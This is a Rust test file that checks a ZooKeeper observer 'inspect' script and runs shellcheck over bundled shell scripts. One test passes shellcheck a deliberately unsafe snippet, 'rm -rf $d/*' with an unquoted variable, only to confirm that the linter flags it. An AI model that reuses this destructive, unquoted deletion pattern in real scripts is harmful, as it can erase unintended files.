#[test]
fn inspect_reads_files_names_and_falls_back_to_docker() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path().join("deploy");
    std::fs::create_dir_all(&d).unwrap();
    std::fs::write(
        d.join("zoo.cfg"),
        "server.1=zk0.nowhere.invalid:2888:3888:participant\nserver.4=0.0.0.0:2888:3888:observer\n",
    )
    .unwrap();
    let o = Observer {
        deploy_dir: hosts::RemoteDir(d.display().to_string()),
        key_store: None,
        address: "127.0.0.1".parse().unwrap(),
        ..manifests::environments::sandbox::inventory::observers().remove(0)
    };
    // Nothing listens on these ports: the probe fails, so the script asks docker (absent or
    // not, it must not break the answer).
    let free = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = free.local_addr().unwrap().port();
    drop(free);
    let ports = Ports {
        client: port,
        metrics: port,
        kind: MetricsKind::Exporter,
    };
    let args = inspect_args(&o, ports, "sandbox", None, ReadMode::Quick);
    let (code, out, err) = run(Script::Inspect, &strs(&args), None);
    assert_eq!(code, 0, "{err}");
    let observed = parse_inspect(out.as_bytes(), MetricsKind::Exporter).unwrap();
    assert!(observed
        .file("zoo.cfg")
        .unwrap()
        .contains("zk0.nowhere.invalid"));
    assert_eq!(observed.file("docker-compose.yaml"), None);
    assert_eq!(observed.unresolved(), ["zk0.nowhere.invalid"]);
    assert!(!observed.health.healthy());
    assert!(!observed.running.contains("zookeeper"));
}

#[test]
fn every_script_passes_shellcheck() {
    let found = Command::new("sh")
        .arg("-c")
        .arg("command -v shellcheck")
        .output()
        .unwrap();
    assert!(
        found.status.success(),
        "shellcheck is not installed: apt-get install shellcheck (bash .ci/run does it)"
    );
    for script in Script::ALL {
        let mut child = Command::new("shellcheck")
            .args(["--shell", script.shell(), "-"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(script.text().as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(
            out.status.success(),
            "{script:?}: {}",
            String::from_utf8_lossy(&out.stdout)
        );
    }
    // And shellcheck would notice: an unquoted expansion is a finding.
    let mut bad = Command::new("shellcheck")
        .args(["--shell", "sh", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    bad.stdin
        .take()
        .unwrap()
        .write_all(b"d=$1\nrm -rf $d/*\n")
        .unwrap();
    assert!(!bad.wait().unwrap().success());
}
